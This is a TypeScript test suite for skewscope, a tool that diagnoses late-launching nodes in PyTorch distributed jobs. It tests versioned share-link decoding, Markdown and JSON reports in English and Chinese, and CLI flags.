          k,
          Array.isArray(x) ? x.map((i) => (typeof i === 'number' ? w.N.i[i] : i)) : x,
        ]),
      ) as never;
    return {
      ...rest,
      // Format 1 had one skew: that of the nodes placed.
      s: S ? S[0] : rest.s,
      N: columns,
      f: f && [
        f[0],
        f[1],
        f[2],
        f[3]?.[1] ?? null,
        f[4].map(([code, vals]) => reasonText('en', { code, values: words(vals) })),
        f[5],
      ],
      q: q.map(([code, vals]) => noteText('en', { code, values: words(vals) })),
    };
  }

  it('a link of format 1 (notes and reasons as words) opens, its words kept as they were', () => {
    const job = scenario('torch1.13-capture-k2b');
    const dx = diagnose(job);
    const v1 = toV1(toV2(buildWire(job, dx, { now: NOW }).wire));
    expect(v.safeParse(WireV1Schema, v1).success).toBe(true);
    const d = decodeShare(link(v1, 1, DICTIONARY_V1));
    expect(d.ok).toBe(true);
    if (!d.ok) return;
    const back = restore(d.snapshot);
    expect(back.job.verdict).toBe(job.verdict);
    expect(back.job.failure?.lateNodes).toEqual(job.failure?.lateNodes);
    expect(back.job.failure?.stage).toBe(job.failure?.stage);
    // Format 1's words are the link's own text: shown quoted, as data, never as skewscope's sentences.
    const said = back.job.failure?.reasoning.map((r) => reasonText('en', r)) ?? [];
    expect(said.every((t) => t.startsWith('“') && t.endsWith('”'))).toBe(true);
    expect(unquoted(said)).toEqual(job.failure?.reasoning.map((r) => reasonText('en', r)));
    expect(unquoted(back.job.notes.map((n) => noteText('en', n)))).toEqual(job.notes.map((n) => noteText('en', n)));
    // They are in the language the link was made in: the views mark them so.
    expect(back.job.notes.every((n) => n.code === 'text' && n.values.lang === 'en')).toBe(true);
    // Format 1 said which limits were in force: the one with the failure's value is the limit that fired.
    expect(back.job.failure?.limit).toMatchObject({ id: 'store-sync', seconds: 300, from: 'default' });
    expect(back.diagnosis.findings.map((f) => f.code)).toEqual(dx.findings.map((f) => f.code));
  });

  function toV0(w: WireV1): unknown {
    const { o: _o, ...rest } = structuredClone(w);
    return {
      ...rest,
      l0: true,
      w: [w.w[0], w.w[1]],
      N: { ...rest.N, l: w.N.l.map((x) => (x === null ? null : x / 1000)) },
    };
  }

  it('a link of an older format opens through the upgraders', () => {
    const job = scenario('torch1.13-capture-k2b');
    const dx = diagnose(job);
    const v1 = toV1(toV2(buildWire(job, dx, { now: NOW, selectedNode: 'trainjob-worker-1', evidence: true }).wire));
    const viaV1 = decodeShare(link(v1, 1, DICTIONARY_V1));
    const old = link(toV0(v1), 0, null);
    const d = decodeShare(old, { upgraders: [upgradeV0, ...UPGRADERS] });
    expect(d.ok).toBe(true);
    expect(d.ok && d.snapshot).toEqual(viaV1.ok && viaV1.snapshot);
    // Without the upgrader it is an old format, said so; a v0 that is not v0 is malformed.
    expect(decodeShare(old)).toMatchObject({ ok: false, error: { code: 'older-version' } });
    expect(decodeShare(link({ w: [] }, 0, null), { upgraders: [upgradeV0, ...UPGRADERS] })).toMatchObject({
      ok: false,
      error: { code: 'invalid' },
    });
  });

  // A link made with format 2 (skewscope at dd53cb2): a healthy 12-node job (scripts/bench-job.mjs, nodes 12,
  // ranks 1, late 10, seed 3) whose LATE_NODE finding carried its late nodes as one English text. It must open in
  // every later skewscope, its list read back into data.
  const GOLDEN_V2 =
    'http://127.0.0.1:4173/#share=2.UNrfJu1ay6oUMRD9leGuBgySyrPjP4gLFwriwoWo4MrHFQT_3XMqlcx1ptN4waX0bVI1kz5dlUo9UnP' +
    '3vLoEH6ZXf0DbAU3Je7qHuvdPHF7FP3Tuu_f3nzAHXQtzczRLPn_7yIRhft5qaTUn8_NQqsRtent-cu3lEsZfd0lPb5e_83Y89Uh372OyMdvI2' +
    'Mqx2rjZ2AbOBJSrgHF9_RlAdr7tASWkVNLmpPgWmwtRckiuVQ9GNv0kplRd8TFlBxP57KSm2hAO-3oGnzDuR6Wdt_Yohf2lcao79JuEW2MV7op' +
    '7w904Ryeqmz-IVzuojF-hlupiQEySvLmUYcfaqgs1NZdidEEKhBYoI16aawiMgc8uY10oG8mIy0hmAd0M3mVcRjbEP7y8KMkXQo69KKmYEMQgl' +
    'VojxsBnCEidVnji65DRyDUi1gWCKaQu0QozlmyQnVojpsynCMjlXspYfRsydvJARsSBISOtt1zHUsh02yh5ZBts8GEbbIal3tjhprdSB3pHZkL' +
    'Vm1ZcyegrdVEZO3kgoxRuB5WR-3SNWeae7OQRJvb6wCS5wGyqDSE7dWAdOo5ZR8kFIpebeBzXaI2LTCyafIFUpr90ao0GZzY4pR5fiNyeHo8K5' +
    '-sj5O2Jca-w6Qnn-d0zpKSXg32Fry_54_X4-Law-fHuSz_ozNKGAbLXNojGTzW94Xc_9q-QK6kPqx1LHKcz5py-4qds5cGmPNkCNsbJRrLhMpm' +
    'z_WV2O52lXtgAtshk0-nc-CI9ueHk9MK6ZV2t3RJMm2aM9zA9i0kRWDLA1huqV632_hdl_74oQ1XFfgx6S9_xrxLaW7d8-PbXbw';

  /** The job GOLDEN_V2 was made from, analysed by this skewscope. */
  function goldenV2Job(): JobModel {
    const dir = mkdtempSync(path.join(tmpdir(), 'skewscope-golden-'));
    const made = generateJob(path.join(dir, 'job'), { nodes: 12, ranks: 1, late: 10, seed: 3 });
    return analyseTexts(
      Object.fromEntries(readdirSync(made.dir).map((f) => [`job/${f}`, readFileSync(path.join(made.dir, f), 'utf8')])),
    );
  }

  it('a link made with format 2 still opens, its late-node text read back into a list with exact lags', () => {
    const d = decodeShare(GOLDEN_V2);
    expect(d.ok).toBe(true);
    if (!d.ok) return;
    expect(d.snapshot).toMatchObject({
      version: SHARE_VERSION,
      title: 'golden v2',
      view: { lang: 'zh', selectedNode: 'node10' },
    });
    const late = d.snapshot.findings.find((f) => f.code === 'LATE_NODE')!;
    expect(late.late).toEqual([
      { node: 'node10', lagSeconds: 267.138 },
      { node: 'node1', lagSeconds: 244.648 },
      { node: 'node6', lagSeconds: 233.447 },
      { node: 'node3', lagSeconds: 231.524 },
      { node: 'node11', lagSeconds: 204.713 },
      { node: 'node9', lagSeconds: 174.794 },
      { node: 'node2', lagSeconds: 160.939 },
      { node: 'node4', lagSeconds: 97.039 },
    ]);
    // The text is gone from the numbers the link carries; the finding has it back, as the JSON always had it.
    expect(late.numbers.worst).toBeUndefined();
    const zh = restore(d.snapshot, 'zh').diagnosis.findings.find((f) => f.code === 'LATE_NODE')!;
    expect(zh.detail).toBe(
      '10 个节点启动晚了，按落后时间：node10（267 秒）、node1（245 秒）、node6（233 秒）、node3（232 秒）、node11（205 秒）、node9（175 秒）、node2（161 秒）、node4（97 秒），另有 2 个。',
    );
    const en = restore(d.snapshot, 'en').diagnosis.findings.find((f) => f.code === 'LATE_NODE')!;
    expect(en.detail).toBe(
      '10 nodes launched late; by lag: node10 (267 s), node1 (245 s), node6 (233 s), node3 (232 s), node11 (205 s), node9 (175 s), node2 (161 s), node4 (97 s) and 2 more.',
    );
    // The old link says what this skewscope says of the same logs today.
    const job = goldenV2Job();
    const dx = diagnose(job, 'en');
    const today = dx.findings.find((f) => f.code === 'LATE_NODE')!;
    expect({ ...en, evidence: [] }).toEqual({ ...today, evidence: [] });
    expect(restore(d.snapshot, 'en').diagnosis.findings.map((f) => f.title)).toEqual(dx.findings.map((f) => f.title));
  });

  it('the late-node list travels as data: node indexes with lags in ms, no English text; it round-trips', () => {
    const job = goldenV2Job();
    for (const lang of ['en', 'zh'] as Lang[]) {
      const dx = diagnose(job, lang);
      const p = share(job, dx, { lang });
      const w = JSON.parse(payloadText(p.url)) as Wire;
      const f = w.F.find(([code]) => code === 'LATE_NODE')!;
      expect(f[6]).toEqual([
        [10, 267138],
        [1, 244648],
        [6, 233447],
        [3, 231524],
        [11, 204713],
        [9, 174794],
        [2, 160939],
        [4, 97039],
      ]);
      expect(f[2]).not.toHaveProperty('worst');
      expect(w.F.filter(([code]) => code !== 'LATE_NODE').every((x) => x[6].length === 0)).toBe(true);
      const back = restore(p.snapshot, lang);
      expect(back.diagnosis.findings.map((x) => ({ ...x, evidence: [] }))).toEqual(
        dx.findings.map((x) => ({ ...x, evidence: [] })),
      );
    }
    // Hostnames replaced: the list names the nodes as the table does.
    const dx = diagnose(job, 'en');
    const hidden = restore(share(job, dx, { hostnames: true }).snapshot, 'en');
    const names = hidden.job.nodes.map((n) => n.id);
    const late = hidden.diagnosis.findings.find((f) => f.code === 'LATE_NODE')!.late!;
    expect(late.map((n) => n.node).every((n) => names.includes(n))).toBe(true);
    expect(late.map((n) => n.lagSeconds)).toEqual(
      dx.findings.find((f) => f.code === 'LATE_NODE')!.late!.map((n) => n.lagSeconds),
    );
  });

  it('format 2 → 3: a list of one node, and a late-node text that is not what format 2 wrote', () => {
    // One late node: format 2 had no text, only `node` and `lag`; the list is made from them.
    const job = scenario(S2);
    const dx = diagnose(job);
    const v2 = toV2(buildWire(job, dx, { now: NOW }).wire);
    expect(v.safeParse(WireV2Schema, v2).success).toBe(true);
    const d = decodeShare(link(v2, 2));
    expect(d.ok).toBe(true);
    if (!d.ok) return;
    expect(restore(d.snapshot).diagnosis.findings.map((f) => ({ ...f, evidence: [] }))).toEqual(
      dx.findings.map((f) => ({ ...f, evidence: [] })),
    );
    // A text no format-2 writer made (edited, or cut short): kept as the text it is, shown as data.
    const odd = toV2(buildWire(goldenV2Job(), diagnose(goldenV2Job()), { now: NOW }).wire);
    const f = odd.F.find(([code]) => code === 'LATE_NODE')!;
    f[2].worst = 'node10 (267 s), node1 (soon)';
    const o = decodeShare(link(odd, 2));
    expect(o.ok).toBe(true);
    if (!o.ok) return;
    const shown = restore(o.snapshot, 'zh').diagnosis.findings.find((x) => x.code === 'LATE_NODE')!;
    expect(shown.late).toBeUndefined();
    expect(shown.detail).toBe('10 个节点启动晚了，按落后时间：“node10 (267 s)”、“node1 (soon)”，另有 8 个。');
  });

  it('the schema is the published contract: a fresh link validates against it', () => {
    const job = scenario('torch2.6-s12_c10d_healthy_torch_logs_distributed');
    const w = buildWire(job, diagnose(job), { now: NOW }).wire;
    expect(v.safeParse(WireSchema, JSON.parse(JSON.stringify(w))).success).toBe(true);
    expect(crc32(new TextEncoder().encode('123456789'))).toBe(0xcbf43926);
  });
});

// ——— Exports ———

describe('Markdown report', () => {
  it('verdict, job facts, findings, advice commands in code blocks, nodes with lag', () => {
    const job = scenario('torch1.13-capture-k2b');
    const dx = diagnose(job);
    const md = markdownReport(job, dx, 'en', { title: 'Job 4711', app: '0.1.0' });
    expect(md.split('\n')[0]).toBe(
      '## skewscope: FAILED — rank assignment after the rendezvous (the agents exchanging their ranks through the store)',
    );
    expect(md).toContain('**Job 4711**');
    expect(md).toContain('**Job:** torch `1.13.0a0+gitunknown` · backend `static` · nodes 3 × 1 · launch skew 345 s');
    expect(md).toContain('- ✗ **trainjob-worker-1 started 345 s after trainjob-master-0** `LATE_NODE`');
    expect(md).toContain('### What to change');
    // Debian's torch: the upgrade is said in words (no pip line), the patch is a command that runs as shown.
    expect(md).toMatch(
      /1\. \*\*Upgrade to torch 2\.4 or newer\*\* {2}\n {3}This torch is the distribution’s python3-torch/,
    );
    expect(md).not.toContain('pip install');
    expect(md).toContain("sed -i 's/barrier_timeout: float = 300/barrier_timeout: float = 1800/'");
    expect(md).toContain('| node | group rank | launch (UTC) | lag | failure |');
    expect(md).toContain(
      '| `trainjob-master-0` ★ hosts the rendezvous store | 0 | 18:42:25.770 | 0.0 s | `rank-assignment` |',
    );
    expect(md).toContain('| `trainjob-worker-1` **late** | 2 | 18:48:10.724 | 345 s | `store-connect` |');
    expect(md).toContain('What if: a rendezvous limit of 1800 s would not have been enough');
  });

  it('in Chinese, and the same from a share link as from the logs', () => {
    const job = scenario('torch2.6-s2_static_timeout30_node3_late');
    const dx = diagnose(job, 'zh');
    const md = shareMarkdown(job, dx, { lang: 'zh' });
    expect(md).toContain('## skewscope: 失败 — 在 rendezvous 中等待所有节点（rendezvous 超时）');
    expect(md).toContain('### 需要修改的地方');
    expect(md).toContain('写在每个节点的 torchrun 命令中:\n\n   ```sh\n   --rdzv_conf="timeout=1800"\n   ```');
    const p = share(job, dx, { lang: 'zh', evidence: false });
    const back = restore(p.snapshot);
    expect(
      unquoted(
        markdownReport(back.job, back.diagnosis, 'zh', { title: '', app: p.snapshot.app, omitted: p.snapshot.omitted }),
      ),
    ).toBe(md);
  });

  it('a 1024-node report lists the nodes that matter, not all of them', () => {
    const job = bigFailedJob(1024);
    const md = markdownReport(job, diagnose(job));
    const rows = md.split('\n').filter((l) => l.startsWith('| `'));
    expect(rows.length).toBeLessThanOrEqual(40);
    expect(rows.some((r) => r.includes(hostName(1023)) && r.includes('**late**'))).toBe(true);
    expect(rows.some((r) => r.includes(hostName(0)) && r.includes('★'))).toBe(true);
    expect(md).toMatch(/… and \d+ more nodes \(lag [\d.]+ s – [\d.]+ s\)/);
  });
});

describe('JSON export and the CLI', () => {
  let cli = '';
  beforeAll(async () => {
    const tmp = mkdtempSync(path.join(tmpdir(), 'skewscope-share-'));
    cli = path.join(tmp, 'skewscope.mjs');
    await build({
      entryPoints: [path.join(__dirname, '..', 'src/cli/main.ts')],
      bundle: true,
      platform: 'node',
      format: 'esm',
      target: 'node20',
      outfile: cli,
      logLevel: 'warning',
    });
  });
  const run = (...args: string[]) => {
    const r = spawnSync(process.execPath, [cli, ...args], { encoding: 'utf8', cwd: path.join(__dirname, '..') });
    return { code: r.status, out: r.stdout, err: r.stderr };
  };
  const DIR = 'test/fixtures/corpus/torch1.13-capture-k2b';

  it('diagnosisJson is what `analyze --json` prints', () => {
    const r = run('analyze', DIR, '--json');
    const job = scenario('torch1.13-capture-k2b');
    const mine = JSON.parse(diagnosisJson(job, diagnose(job)));
    const theirs = JSON.parse(r.out);
    expect(Object.keys(mine)).toEqual(Object.keys(theirs));
    expect(mine.findings).toEqual(theirs.findings);
    expect(mine.nodes.map((n: { id: string; lagSeconds: number }) => [n.id, n.lagSeconds])).toEqual(
      theirs.nodes.map((n: { id: string; lagSeconds: number }) => [n.id, n.lagSeconds]),
    );
  });

  it("--json carries LATE_NODE's late nodes as data (`late`), as docs/diagnosis-json.md says, and keeps `worst`", () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'skewscope-late-'));
    generateJob(path.join(dir, 'job'), { nodes: 12, ranks: 1, late: 10, seed: 3 });
    const r = run('analyze', path.join(dir, 'job'), '--json', '--lang', 'zh');
    expect(r.code).toBe(0);
    const f = (JSON.parse(r.out) as Diagnosis).findings.find((x) => x.code === 'LATE_NODE')!;
    expect(f.late).toHaveLength(8);
    expect(f.late![0]).toEqual({ node: 'node10', lagSeconds: 267.138 });
    expect(f.late!.map((n) => n.lagSeconds)).toEqual([...f.late!.map((n) => n.lagSeconds)].sort((a, b) => b! - a!));
    // The English text JSON readers had before, unchanged whatever --lang says.
    expect(f.numbers.worst).toBe(
      'node10 (267 s), node1 (245 s), node6 (233 s), node3 (232 s), node11 (205 s), node9 (175 s), node2 (161 s), node4 (97 s)',
    );
    expect(f.detail).toContain('node10（267 秒）、node1（245 秒）');
    const doc = readFileSync(path.join(__dirname, '..', 'docs', 'diagnosis-json.md'), 'utf8');
    expect(doc).toContain('late?');
    expect(doc).toMatch(/`late` is on `LATE_NODE` findings only[^]*\{ node, lagSeconds \}/);
  });

  it('--share-url prints a link that opens to the same diagnosis; --share-base sets the page', () => {
    const r = run('analyze', DIR, '--share-url');
    expect(r.code).toBe(1);
    const url = r.out.trim();
    expect(url).toMatch(/^http:\/\/127\.0\.0\.1:4173\/#share=3\.[\w-]+$/);
    const d = decodeShare(url);
    expect(d.ok).toBe(true);
    if (!d.ok) return;
    const job = scenario('torch1.13-capture-k2b');
    expect(restore(d.snapshot).diagnosis.findings.map((f) => f.title)).toEqual(
      diagnose(job).findings.map((f) => f.title),
    );
    const other = run('analyze', DIR, '--share-url', '--share-base', 'https://team.example/skewscope/');
    expect(other.out.startsWith('https://team.example/skewscope/#share=3.')).toBe(true);
    expect(run('analyze', DIR, '--share-base', 'ftp://x').code).toBe(2);
    expect(run('analyze', DIR, '--json', '--share-url').code).toBe(2);
  });

  it('--markdown prints the report (with the link when --share-url is given too)', () => {
    const r = run('analyze', DIR, '--markdown', '--lang', 'en');
    expect(r.code).toBe(1);
    expect(r.out.split('\n')[0]).toMatch(/^## skewscope: FAILED — rank assignment/);
    expect(r.out).toContain('```sh');
    const both = run('analyze', DIR, '--markdown', '--share-url');
    expect(both.out).toMatch(/\[Open this diagnosis in skewscope\]\(<http:\/\/127\.0\.0\.1:4173\/#share=3\.[\w-]+>\)/);
  });
});
